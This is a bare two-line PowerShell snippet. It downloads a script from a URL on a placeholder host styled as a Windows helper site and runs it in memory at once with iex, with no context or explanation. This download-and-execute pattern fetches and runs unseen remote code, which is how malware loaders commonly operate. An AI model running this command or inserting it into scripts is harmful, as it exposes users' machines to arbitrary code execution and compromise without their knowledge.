$u = 'https://win-helpers.example.net/a.ps1'
iex (iwr $u -UseBasicParsing).Content
